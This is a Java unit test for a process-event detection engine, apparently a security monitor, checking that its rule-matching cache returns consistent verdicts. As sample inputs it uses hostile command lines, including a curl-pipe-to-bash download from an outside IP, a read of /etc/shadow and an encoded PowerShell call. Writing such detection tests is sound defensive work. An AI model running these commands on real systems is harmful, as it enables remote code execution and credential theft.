package dev.vigil.rules.match;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.catalogue.AlertCatalogue;
import dev.vigil.detect.process.ProcessRules;
import dev.vigil.event.HttpRequest;
import dev.vigil.event.Origin;
import dev.vigil.event.ProcessStart;
import dev.vigil.rules.Field;
import dev.vigil.rules.Rule;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

/**
 * The event-level memo of {@link RuleMatcher} is exact only if a view's {@link FieldSource#verdictKey}
 * covers everything its values are computed from: two process starts with the same key for a field
 * must have the same values of that field. Checked field by field on events drawn from small pools of
 * parts, so that many pairs share some parts and differ in others.
 */
class VerdictKeyTest {
    private static final Origin O = new Origin("test", 1, 0);

    private static <T> T pick(Random r, List<T> pool) {
        return pool.get(r.nextInt(pool.size()));
    }

    private static String describe(List<FieldValue> vs) {
        StringBuilder b = new StringBuilder();
        for (FieldValue v : vs) {
            b.append(v.field()).append('|').append(v.raw()).append('|').append(v.decoded()).append('\n');
        }
        return b.toString();
    }

    private static void sameKeySameValues(List<? extends FieldSource> views) {
        for (Field f : Field.values()) {
            long bit = 1L << f.ordinal();
            for (int i = 0; i < views.size(); i++) {
                for (int j = i + 1; j < views.size(); j++) {
                    FieldSource a = views.get(i);
                    FieldSource b = views.get(j);
                    if (a.verdictKey(bit).equals(b.verdictKey(bit))) {
                        assertThat(describe(b.values(f))).as(f + ": same key").isEqualTo(describe(a.values(f)));
                        if (f == Field.STATUS) {
                            assertThat(b.status()).isEqualTo(a.status());
                        }
                    }
                }
            }
        }
    }

    @Test
    void requestsOfferNoKey() {
        // measured: remembering whole requests saved no time on an access log (see RequestView)
        assertThat(new RequestView(HttpRequest.builder(O).method("GET").target("/").build()).verdictKey(-1L)).isNull();
    }

    @Test
    void processStartsWithTheSameKeyHaveTheSameValues() {
        Random r = new Random(11);
        List<String> exes = List.of("/bin/sh", "C:\\Windows\\System32\\cmd.exe", "", "/usr/bin/Python3");
        List<String> lines = List.of("sh -c 'id'", "cmd /c whoami", "powershell -enc AAAA", "\"C:\\x y\\a.exe\" /q", "");
        List<ProcessView> views = new ArrayList<>();
        for (int i = 0; i < 150; i++) {
            String cl = pick(r, lines);
            ProcessStart p = ProcessStart.builder(O).pid(2).ppid(1).exe(pick(r, exes)).commandLine(cl)
                    .argv(r.nextBoolean() ? List.of() : List.of(pick(r, exes), "-x"))
                    .parentExe(pick(r, exes)).parentCommandLine(pick(r, lines)).user(pick(r, List.of("root", "Www")))
                    .cwd(pick(r, List.of("/", "/Tmp"))).build();
            if (r.nextBoolean()) {
                p = p.withLineage(p.parentExe(), p.parentCommandLine(), List.of(pick(r, exes), pick(r, exes)));
            }
            String worker = pick(r, java.util.Arrays.asList(null, "/usr/sbin/nginx", "w3wp.exe"));
            // a view of the event's own command line, or of one decoded from it
            String read = r.nextBoolean() ? cl : pick(r, lines);
            views.add(new ProcessView(p, read, worker));
        }
        sameKeySameValues(views);
    }

    private static List<String> matches(RuleMatcher m, FieldSource v) {
        List<String> out = new ArrayList<>();
        m.match(v, (rule, fv) -> out.add(rule.id() + "=" + fv.field() + ":" + fv.raw()));
        return out;
    }

    private static ProcessView start(String host, long pid, String exe, String cmd, String parent) {
        return new ProcessView(ProcessStart.builder(O).host(host).pid(pid).ppid(1).exe(exe).commandLine(cmd)
                .parentExe(parent).build());
    }

    @Test
    void aRepeatedStartGetsTheVerdictOfTheFirstAndAChangedOneItsOwn() {
        List<Rule> rules = ProcessRules.builtInRules(AlertCatalogue.builtIn()).rules();
        RuleMatcher m = new RuleMatcher(rules);
        RuleMatcher fresh = new RuleMatcher(rules);
        String dump = "curl -s http://198.51.100.7/x.sh | bash";
        List<String> first = matches(m, start("web1", 100, "/usr/bin/bash", dump, "/usr/sbin/cron"));
        assertThat(first).isNotEmpty();
        // another host and pid (fields no rule reads): remembered, and the same
        assertThat(matches(m, start("web2", 200, "/usr/bin/bash", dump, "/usr/sbin/cron"))).isEqualTo(first);
        // another command line: matched again, and what a matcher that never saw the first finds
        String more = dump + "; cat /etc/shadow";
        List<String> second = matches(m, start("web2", 201, "/usr/bin/bash", more, "/usr/sbin/cron"));
        assertThat(second).isEqualTo(matches(fresh, start("web2", 201, "/usr/bin/bash", more, "/usr/sbin/cron")));
        assertThat(second).hasSizeGreaterThan(first.size());
        // and a benign start after them finds nothing
        assertThat(matches(m, start("web2", 202, "/usr/bin/ls", "ls -la /var/www", "/usr/bin/bash"))).isEmpty();
    }
}
